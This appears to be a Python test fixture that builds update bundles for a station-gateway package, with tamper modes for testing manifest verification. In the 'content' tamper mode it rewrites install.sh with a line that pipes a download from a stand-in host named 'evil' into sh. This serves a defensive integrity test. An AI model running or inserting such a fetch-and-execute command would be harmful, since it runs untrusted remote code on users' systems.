"""Small update bundles in the real format: packaging/bundle.py's own manifest and tar writers."""

from __future__ import annotations

import shutil
from pathlib import Path
from types import ModuleType

from tests.packaging_scripts import load_script

ROOT = Path(__file__).resolve().parents[3]


def load_packaging_bundle() -> ModuleType:
    return load_script("bundle")


BUNDLE = load_packaging_bundle()


def make_bundle(out_dir: Path, version: str, wheel_bytes: int = 300_000, tamper: str | None = None) -> Path:
    """A bundle like `make bundle`'s (wheels, install.sh, unit, VERSION, SHA256SUMS) with a filler wheel.

    `tamper`: "content" changes a file after the manifest was written, "extra" adds an unlisted
    file, "no-manifest" drops SHA256SUMS, "version" writes a VERSION that is not a version.
    """
    name = BUNDLE.bundle_name(version)
    work = out_dir / "work" / name
    shutil.rmtree(work, ignore_errors=True)
    (work / "wheels").mkdir(parents=True)
    (work / "systemd").mkdir()
    filler = bytes((i * 7919) % 251 for i in range(wheel_bytes))  # not compressible to nothing: the download takes a few reads
    (work / "wheels" / f"village_station_gateway-{version}-py3-none-any.whl").write_bytes(filler)
    (work / "install.sh").write_text("#!/bin/sh\necho install\n", encoding="utf-8")
    (work / "systemd" / "station-gateway.service.in").write_text("[Service]\n", encoding="utf-8")
    (work / "VERSION").write_text(("not a version!" if tamper == "version" else version) + "\n", encoding="utf-8")
    BUNDLE.write_manifest(work)
    if tamper == "content":
        (work / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n", encoding="utf-8")
    elif tamper == "extra":
        (work / "wheels" / "extra-0-py3-none-any.whl").write_bytes(b"extra")
    elif tamper == "no-manifest":
        (work / "SHA256SUMS").unlink()
    out_dir.mkdir(parents=True, exist_ok=True)
    tarball = out_dir / f"{name}.tar.gz"
    BUNDLE.write_tar(work, tarball)
    return tarball
